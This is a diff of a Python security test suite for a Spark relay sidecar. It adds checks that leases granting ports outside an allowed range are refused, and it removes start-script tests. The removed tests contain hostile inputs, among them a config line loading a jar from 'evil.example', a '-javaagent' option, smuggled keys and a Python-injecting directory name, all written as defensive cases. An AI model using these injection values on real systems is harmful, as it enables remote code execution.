@@ -12,16 +12,16 @@ reach into the notebook nor forge what the notebook reads.
 - relay-chosen text is escaped in the sidecar's log;
 - streams reset before they are answered (rapid reset) are bounded, and so
   are resets in general;
-- the notebook start-up script merges only the settings a lease defines.
+- a lease may grant only ports within tunnel.allowed_ports.
+
+The notebook start-up script: test_notebook_script.py.
 """
 
-import ast
+import json
 import os
-import signal
 import socket
 import stat
 import struct
-import subprocess
 import sys
 import threading
 import time
@@ -33,8 +33,6 @@ import harness_extra as X  # noqa: E402
 import fake_relay as FR  # noqa: E402
 import fake_sidecar as F  # noqa: E402
 
-REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
-START_SCRIPT = os.path.join(REPO, "docker", "notebook", "start-sparkrelay.sh")
 ROLES = ["blockManager", "driver"]
 INJECTED_KEYS = ("spark.jars", "spark.plugins", "spark.driver.extraJavaOptions",
                  "spark.authenticate")
@@ -250,6 +248,28 @@ class LeaseStateTest(TrustCase):
         self.assertIn("spark.driver.port %d\n" % p1, conf)
         self.assertNotIn("127.0.0.3", conf)
 
+    def test_another_lease_answering_a_resume_is_refused(self):
+        """A relay answers a resume it cannot honour with unknown_lease; another
+        lease instead would move the driver's connections to ports nobody agreed
+        to (follow-up 1 of the security review)."""
+        p1, p2 = two_ports()
+        s, reg = self.fr.session(15)
+        self.leased(s, FR.lease_msg(lease="L-1-aaaaaaaa", ports={"driver": p1,
+                                                                  "blockManager": p2}))
+        s.close()
+        s, reg = self.fr.session(15)
+        self.assertEqual(reg.get("resume"), "0123456789abcdef")
+        s.send_ctl(FR.lease_msg(lease="L-2-bbbbbbbb", ports={"driver": p1 + 1,
+                                                              "blockManager": p2 + 1}))
+        self.assert_closed(s, "another lease for a resume")
+        self.assertTrue(X.wait_log(self.proc, "a different lease in answer to our resume", 5))
+        j = H.read_spark_json(self.spark_json)
+        self.assertEqual((j["lease"], j["ports"]), ("L-1-aaaaaaaa",
+                                                    {"driver": p1, "blockManager": p2}))
+        # and the next tunnel still asks for the first lease
+        s, reg = self.fr.session(15)
+        self.assertEqual(reg.get("resume"), "0123456789abcdef")
+
     def test_released_without_release_is_refused(self):
         p1, p2 = two_ports()
         s, reg = self.fr.session(15)
@@ -262,6 +282,110 @@ class LeaseStateTest(TrustCase):
         s2, reg2 = self.fr.session(15)
         self.assertEqual(reg2.get("resume"), "0123456789abcdef")
         self.assertTrue(os.path.exists(self.state))
+
+
+class AllowedPortsTest(TrustCase):
+    """tunnel.allowed_ports: the relay chooses the ports the driver binds on
+    the notebook; one outside the agreed ranges is a protocol error, so a
+    relay cannot point the driver at a port of another local service."""
+
+    tunnel_overrides = {"tunnel": {"allowed_ports": ["27000-27009", "27100"]}}
+
+    def test_lease_outside_the_allowed_ports_is_refused(self):
+        cases = [
+            ("blockManager outside", {"driver": 27001, "blockManager": 40002},
+             "lease grants blockManager port 40002, outside tunnel.allowed_ports "
+             "(27000-27009,27100)"),
+            ("driver just past the range", {"driver": 27010, "blockManager": 27009},
+             "lease grants driver port 27010"),
+            ("a privileged port", {"driver": 22, "blockManager": 27000},
+             "lease grants driver port 22"),
+        ]
+        for what, ports, log in cases:
+            s, reg = self.fr.session(15)
+            s.send_ctl(FR.lease_msg(ports=ports))
+            self.assert_closed(s, what)
+            self.assertTrue(X.wait_log(self.proc, log, 5), "%s: no %r in the log" % (what, log))
+        self.assert_nothing_written()
+        self.assertFalse(self.proc.grep("lease granted"))
+        self.assertEqual(len(self.proc.grep("protocol error from the relay")), len(cases))
+        # the edges of the ranges are in
+        s, reg = self.fr.session(15)
+        j = self.leased(s, FR.lease_msg(ports={"driver": 27009, "blockManager": 27100}))
+        self.assertEqual(j["ports"], {"driver": 27009, "blockManager": 27100})
+
+
+class DefaultAllowedPortsTest(TrustCase):
+    """Without tunnel.allowed_ports, a sidecar takes the default pool's ports
+    (26000-26999) and nothing else."""
+
+    def prepare(self):
+        path = os.path.join(self.dir, "tunnel.json")
+        with open(path) as f:
+            cfg = json.load(f)
+        del cfg["tunnel"]["allowed_ports"]
+        H.write_config(path, cfg)
+
+    def test_default_is_the_default_pool(self):
+        s, reg = self.fr.session(15)
+        s.send_ctl(FR.lease_msg(ports={"driver": 40001, "blockManager": 40002}))
+        self.assert_closed(s, "ports of the old default pool")
+        self.assertTrue(X.wait_log(self.proc, "outside tunnel.allowed_ports (26000-26999)", 5))
+        self.assert_nothing_written()
+        s, reg = self.fr.session(15)
+        j = self.leased(s, FR.lease_msg(ports={"driver": 26000, "blockManager": 26999}))
+        self.assertEqual(j["ports"], {"driver": 26000, "blockManager": 26999})
+
+
+class LeaseChangeWarningTest(TrustCase):
+    """"the driver must be restarted" only when the ports or the host change:
+    a relay that restarted and granted a new lease on the same ports needs no
+    restart of the driver, and must not say so."""
+
+    WARN = "the driver must be restarted"
+    UNKNOWN = {"v": 1, "type": "error", "code": "unknown_lease", "message": "gone"}
+
+    def relay_lost_it(self, s):
+        """Close the tunnel; the sidecar resumes; answer that the lease is gone.
+        Returns the next session (a fresh registration)."""
+        s.close()
+        s, reg = self.fr.session(15)
+        self.assertTrue(reg.get("resume"), "the sidecar did not ask to resume")
+        s.send_ctl(self.UNKNOWN)
+        self.assert_closed(s, "unknown_lease")
+        s, reg = self.fr.session(15)
+        self.assertNotIn("resume", reg)
+        return s
+
+    def test_warning_only_when_ports_or_host_change(self):
+        p = {"driver": 41001, "blockManager": 41002}
+        s, reg = self.fr.session(15)
+        self.leased(s, FR.lease_msg(lease="L-1-aaaaaaaa", ports=p))
+        # the same lease resumed
+        s.close()
+        s, reg = self.fr.session(15)
+        self.assertEqual(reg.get("resume"), "0123456789abcdef")
+        s.send_ctl(FR.lease_msg(lease="L-1-aaaaaaaa", ports=p))
+        self.assertTrue(X.wait_log(self.proc, "lease resumed", 5))
+        # a relay restart: another lease, the same ports and host
+        s = self.relay_lost_it(s)
+        self.leased(s, FR.lease_msg(lease="L-2-bbbbbbbb", ports=p))
+        self.assertEqual(self.proc.grep(self.WARN), [], "warned without a change of ports")
+        # other ports
+        s = self.relay_lost_it(s)
+        self.leased(s, FR.lease_msg(lease="L-3-cccccccc",
+                                    ports={"driver": 41003, "blockManager": 41002}))
+        lines = self.proc.grep(self.WARN)
+        self.assertEqual(len(lines), 1, lines)
+        self.assertIn("lease changed from L-2-bbbbbbbb (host 127.0.0.2, ports 41001,41002) "
+                      "to L-3-cccccccc (host 127.0.0.2, ports 41003,41002)", lines[0])
+        # another host, the same ports
+        s = self.relay_lost_it(s)
+        self.leased(s, FR.lease_msg(lease="L-4-dddddddd", host="127.0.0.3",
+                                    ports={"driver": 41003, "blockManager": 41002}))
+        lines = self.proc.grep(self.WARN)
+        self.assertEqual(len(lines), 2, lines)
+        self.assertIn("(host 127.0.0.3, ports 41003,41002)", lines[1])
 
 
 class ConnectTest(TrustCase):
@@ -465,116 +589,6 @@ class ResetFloodTest(TrustCase):
         self.assertEqual(s.goaway, 2, "no GOAWAY(INTERNAL_ERROR) before the close")
         self.assertTrue(X.wait_log(self.proc, "relay broke HTTP/2 (sent GOAWAY", 5))
         self.assertEqual(other.count, 0)
-
-
-class StartScriptTest(unittest.TestCase):
-    """docker/notebook/start-sparkrelay.sh with a stand-in sidecar binary that
-    writes a given fragment: only a lease's settings are merged."""
-
-    GOOD = ("# Written by sparkrelay for lease L-1-0a1b2c3d. Do not edit.\n"
-            "spark.driver.host relay-0.example\n"
-            "spark.driver.bindAddress 127.0.0.1\n"
-            "spark.driver.port 40001\n"
-            "spark.driver.blockManager.port 40002\n"
-            "spark.port.maxRetries 0\n"
-            "spark.kubernetes.executor.useDriverPodIP false\n")
-    ORIGINAL = "spark.executor.memory 4g\nspark.driver.port=1234\n"
-    FAKE_BIN = ("#!/bin/sh\n"
-                "cat \"$FAKE_FRAGMENT\" >\"$SPARKRELAY_TUNNEL_SPARK_CONF\"\n"
-                "echo '{\"lease\": \"L-1-0a1b2c3d\", \"ports\": {}}' "
-                ">\"$SPARKRELAY_TUNNEL_SPARK_JSON\"\n"
-                "exec sleep 20\n")
-
-    def run_script(self, fragment, conf_dir_name="spark-conf"):
-        d = H.new_dir(self.id())
-        home = os.path.join(d, "home")
-        conf_dir = os.path.join(d, conf_dir_name)
-        os.makedirs(home)
-        os.makedirs(conf_dir)
-        with open(os.path.join(conf_dir, "spark-defaults.conf"), "w") as f:
-            f.write(self.ORIGINAL)
-        fake = os.path.join(d, "sparkrelay")
-        with open(fake, "w") as f:
-            f.write(self.FAKE_BIN)
-        os.chmod(fake, 0o755)
-        frag = os.path.join(d, "fragment")
-        with open(frag, "w") as f:
-            f.write(fragment)
-        env = {k: v for k, v in os.environ.items() if not k.startswith(("SPARK", "SPARKRELAY"))}
-        env.update(HOME=home, SPARK_CONF_DIR=conf_dir, SPARKRELAY_BIN=fake,
-                   SPARKRELAY_WAIT_S="10", FAKE_FRAGMENT=frag)
-        pidfile = os.path.join(home, ".sparkrelay", "sparkrelay.pid")
-        try:
-            r = subprocess.run(["bash", START_SCRIPT, "start"], env=env, capture_output=True,
-                               text=True, timeout=30, stdin=subprocess.DEVNULL)
-        finally:
-            try:
-                with open(pidfile) as f:
-                    os.kill(int(f.read().strip()), signal.SIGKILL)
-            except (OSError, ValueError):
-                pass
-        with open(os.path.join(conf_dir, "spark-defaults.conf")) as f:
-            conf = f.read()
-        return r, conf, home, conf_dir
-
-    def test_only_lease_settings_are_merged(self):
-        bad = [
-            ("an unexpected key", self.GOOD + "spark.jars http://evil.example/x.jar\n"),
-            ("a key that runs code", self.GOOD.replace(
-                "spark.port.maxRetries 0\n", "spark.driver.extraJavaOptions -javaagent:x\n")),
-            ("a tab in the host", self.GOOD.replace("relay-0.example",
-                                                    "relay-0.example\tspark.jars x")),
-            ("two values", self.GOOD.replace("relay-0.example", "relay spark.jars=x")),
-            ("a port out of range", self.GOOD.replace("40001", "99999")),
-            ("a key twice", self.GOOD + "spark.driver.port 40003\n"),
-            ("a leading blank", self.GOOD + " spark.jars x\n"),
-            ("another separator", self.GOOD.replace("spark.driver.port 40001",
-                                                    "spark.driver.port=40001")),
-            ("another bind address", self.GOOD.replace("127.0.0.1", "0.0.0.0")),
-            ("maxRetries not 0", self.GOOD.replace("maxRetries 0", "maxRetries 16")),
-            ("a CR", self.GOOD.replace("40002\n", "40002\rspark.jars x\n")),
-            ("a missing setting", self.GOOD.replace("spark.port.maxRetries 0\n", "")),
-        ]
-        for what, frag in bad:
-            with self.subTest(what):
-                r, conf, _, _ = self.run_script(frag)
-                self.assertNotEqual(r.returncode, 0, "%s: merged (%s)" % (what, r.stderr))
-                self.assertEqual(conf, self.ORIGINAL, "%s: spark-defaults.conf changed" % what)
-                self.assertIn("nothing merged", r.stderr)
-                self.assertNotIn("spark.jars", r.stderr)
-
-    def test_lease_settings_are_merged(self):
-        r, conf, home, conf_dir = self.run_script(self.GOOD + "spark.ui.port 4041\n")
-        self.assertEqual(r.returncode, 0, r.stderr)
-        lines = conf.splitlines()
-        self.assertIn("spark.executor.memory 4g", lines)
-        self.assertEqual([l for l in lines if l.startswith("spark.driver.port")],
-                         ["spark.driver.port 40001"])
-        for l in self.GOOD.splitlines()[1:] + ["spark.ui.port 4041"]:
-            self.assertIn(l, lines)
-        # the unrelated line, the block's two markers, its 7 settings: nothing else
-        self.assertEqual(len(lines), 1 + 2 + 7, conf)
-
-    def test_ipython_hook_takes_paths_as_literals(self):
-        name = "conf \"dir\\\" ) ; import sys #"
-        r, conf, home, conf_dir = self.run_script(self.GOOD, conf_dir_name=name)
-        self.assertEqual(r.returncode, 0, r.stderr)
-        hook = os.path.join(home, ".ipython", "profile_default", "startup", "00-sparkrelay.py")
-        with open(hook) as f:
-            tree = ast.parse(f.read())
-        # os.environ.setdefault("K", "v") or os.environ["K"] = "v", each value a literal
-        values = {}
-        for node in ast.walk(tree):
-            if isinstance(node, ast.Call) and getattr(node.func, "attr", "") == "setdefault":
-                values[node.args[0].value] = node.args[1].value
-            if isinstance(node, ast.Assign) and isinstance(node.targets[0], ast.Subscript):
-                self.assertIsInstance(node.value, ast.Constant)
-                values[node.targets[0].slice.value] = node.value.value
-        self.assertEqual(values.get("SPARK_CONF_DIR"), conf_dir)
-        self.assertEqual(values.get("SPARKRELAY_SPARK_JSON"),
-                         os.path.join(home, ".sparkrelay", "spark.json"))
-        imports = [n for n in ast.walk(tree) if isinstance(n, (ast.Import, ast.ImportFrom))]
-        self.assertEqual([a.name for n in imports for a in n.names], ["os"])
 
 
 if __name__ == "__main__":
